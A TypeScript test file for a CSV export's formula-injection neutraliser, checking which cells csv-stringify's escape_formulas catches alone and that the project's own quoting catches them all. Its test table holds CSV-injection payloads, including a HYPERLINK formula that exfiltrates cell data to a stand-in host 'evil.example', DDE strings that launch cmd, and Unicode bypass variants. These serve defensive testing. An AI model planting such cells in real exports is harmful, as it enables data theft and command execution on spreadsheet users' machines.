/**
 * The formula-neutraliser table (OWASP CSV Injection + the issue's list). Each row is one way a
 * cell can start; the table records whether csv-stringify 6.9.0's own `escape_formulas` catches
 * it (measured here, not assumed: if a new version catches more, the `library` column fails and
 * is updated) and checks that our CSV (library + neutralise.ts) always does. Cells are read back
 * through csv-parse, as a spreadsheet would read them.
 */
import { stringify } from 'csv-stringify/browser/esm/sync';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { CSV_OPTIONS } from '../../../lib/export/csv.ts';
import { looksLikeFormula, neutraliseCell, numberCell } from '../../../lib/export/neutralise.ts';

/** The cell as a spreadsheet gets it back from a one-cell CSV. */
function readBack(csv: string): string {
  const rows = parse(csv, { bom: true, relax_column_count: false }) as string[][];
  expect(rows).toHaveLength(1);
  return rows[0]![0]!;
}

const libraryOnly = (cell: string) => readBack(stringify([[cell]], { escape_formulas: true }));
const ours = (cell: string) => readBack(stringify([[cell]], CSV_OPTIONS));

// [what, cell, does csv-stringify's escape_formulas alone neutralise it?]
const FORMULA_CELLS: [string, string, boolean][] = [
  ['= formula', '=1+1', true],
  ['HYPERLINK', '=HYPERLINK("https://evil.example/?"&A1,"Click")', true],
  ['DDE', "=cmd|' /C calc'!A0", true],
  ['+ formula', '+1+1', true],
  ['- formula', '-2+3+cmd|\' /C calc\'!A0', true],
  ['@ function', '@SUM(1,1)', true],
  ['tab first', '\t=1+1', true],
  ['CR first', '\r=1+1', true],
  ['LF first', '\n=1+1', false],
  ['LF first, plain text after', '\nhello', false],
  ['tab first, plain text after', '\thello', true],
  ['full-width ＝', '＝1+1', true],
  ['full-width ＋', '＋1', true],
  ['full-width －', '－1', true],
  ['full-width ＠', '＠SUM(1,1)', true],
  ['leading space', ' =1+1', false],
  ['leading spaces and tab', '  \t=1+1', false],
  ['leading NBSP', '\u00a0=1+1', false],
  ['leading ideographic space', '\u3000=1+1', false],
  ['leading zero-width space', '\u200b=1+1', false],
  ['leading BOM', '\ufeff=1+1', false],
  ['leading right-to-left mark', '\u200f=1+1', false],
  ['leading left-to-right isolate', '\u2066@SUM(1)', false],
  ['small equals ﹦', '﹦1+1', false],
  ['small plus ﹢', '﹢1', false],
  ['small hyphen-minus ﹣', '﹣1', false],
  ['small commercial at ﹫', '﹫SUM(1)', false],
  ['superscript equals ⁼', '⁼1', false],
  ['subscript plus ₊', '₊1', false],
  ['Hebrew alternative plus ﬩', '﬩1', false],
  ['multi-line, formula first', '=1+1\nsecond line', true],
  ['multi-line, formula first, CRLF', '=1+1\r\nsecond line', true],
  ['formula then separator and quote', '=1+2";=1+2', true],
  ['OWASP example 2', "=1+2'\" ;,=1+2", true],
  ['text that is a negative number', '-0.62', true],
  ['X handle with @', '@crisisdesk', true],
];

// Cells that must come back exactly as written.
const PLAIN_CELLS: [string, string][] = [
  ['plain text', 'The parcel arrived broken'],
  ['formula after the first line', 'first line\n=1+1'],
  ['formula after a semicolon', 'a;=1+1'],
  ['formula after a comma', 'a,=1+1'],
  ['starts with a quote', '\'=1 was already quoted'],
  ['starts with a double quote', '"=1+1"'],
  ['Chinese', '包裹坏了，客服不回复'],
  ['Arabic (RTL)', 'الطرد وصل مكسور'],
  ['emoji', '😡📦 never again'],
  ['empty', ''],
  ['only spaces', '   '],
  ['minus sign U+2212 (not a trigger)', '−5 stars'],
];

describe('formula cells', () => {
  test.each(FORMULA_CELLS)('%s: neutralised with a leading quote', (_what, cell) => {
    expect(looksLikeFormula(cell)).toBe(true);
    expect(neutraliseCell(cell)).toBe(`'${cell}`);
    expect(ours(cell)).toBe(`'${cell}`);
  });

  test.each(FORMULA_CELLS)('%s: csv-stringify escape_formulas alone catches it: %s', (_what, cell, library) => {
    expect(libraryOnly(cell).startsWith("'")).toBe(library);
  });
});

describe('plain cells', () => {
  test.each(PLAIN_CELLS)('%s: unchanged', (_what, cell) => {
    expect(looksLikeFormula(cell)).toBe(false);
    expect(ours(cell)).toBe(cell);
  });
});

describe('numbers', () => {
  test.each([
    [-0.62, '-0.62'],
    [0.4, '0.4'],
    [-1, '-1'],
    [0, '0'],
    [5, '5'],
    [1e-7, '1e-7'],
    [-1e-7, '-1e-7'],
    [12.5, '12.5'],
  ])('%s stays a number cell: %s', (n, text) => {
    expect(numberCell(n)).toBe(text);
    // Unquoted in the file, so a spreadsheet reads a number.
    expect(stringify([[n]], CSV_OPTIONS)).toBe(`${text}\r\n`);
  });

  test.each([NaN, Infinity, -Infinity])('%s is not a plain number: written by the text rule', (n) => {
    expect(numberCell(n)).toBe(neutraliseCell(String(n)));
    expect(looksLikeFormula(numberCell(n))).toBe(false);
  });

  test('negative-looking text is text: prefixed', () => {
    expect(ours('-0.62')).toBe("'-0.62");
    expect(stringify([[-0.62, '-0.62']], CSV_OPTIONS)).toBe(`-0.62,"'-0.62"\r\n`);
  });
});
